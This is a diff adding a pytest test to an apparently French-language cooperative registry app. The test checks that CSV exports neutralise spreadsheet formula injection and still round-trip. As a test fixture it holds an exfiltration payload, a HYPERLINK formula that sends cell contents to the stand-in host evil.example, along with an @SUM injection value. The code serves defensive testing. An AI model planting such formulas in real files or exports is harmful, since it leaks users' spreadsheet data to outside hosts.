@@ -83,6 +83,27 @@ def test_cooperatives_french_headers_semicolons_bom_and_round_trip(env):
     assert len(audits) == 4  # every committed import, unchanged ones too
 
 
+def test_export_neutralises_formulas_and_round_trips(env):
+    """OWASP CSV injection: a name that a spreadsheet would run as a formula
+    is exported behind an apostrophe, phone numbers stay numbers, and the
+    export imports back unchanged."""
+    d, st, viewer = env
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"Voir")'
+    text = ("code,name,province,sector,contact_phone\r\n"
+            f'0201,"{evil.replace(chr(34), chr(34) * 2)}",nador,agriculture,0611223344\r\n'
+            "0202,@SUM(A1:A9),nador,agriculture,\r\n")
+    r = upload(st, "cooperatives", text)
+    assert r.status == 200 and counts(r) == (2, 0, 0), r
+    assert query(d, "SELECT name FROM cooperatives WHERE code='0201'")[0]["name"] == evil
+    e = viewer.get("/export/cooperatives")
+    lines = e.body[3:].decode("utf-8").split("\r\n")
+    assert lines[1] == ('"0201","\'=HYPERLINK(""http://evil.example/?""&A2,""Voir"")",'
+                        '"nador","agriculture","+212611223344"')
+    assert lines[2].startswith('"0202","\'@SUM(A1:A9)"')
+    r = st.call("POST", "/import/cooperatives", raw=e.body, headers=CSV_CT)
+    assert r.status == 200 and counts(r) == (0, 0, 2), r.json()
+
+
 @pytest.mark.skipif(not shutil.which("libreoffice"), reason="LibreOffice is not installed")
 def test_export_opens_in_libreoffice(env, tmp_path):
     d, st, viewer = env
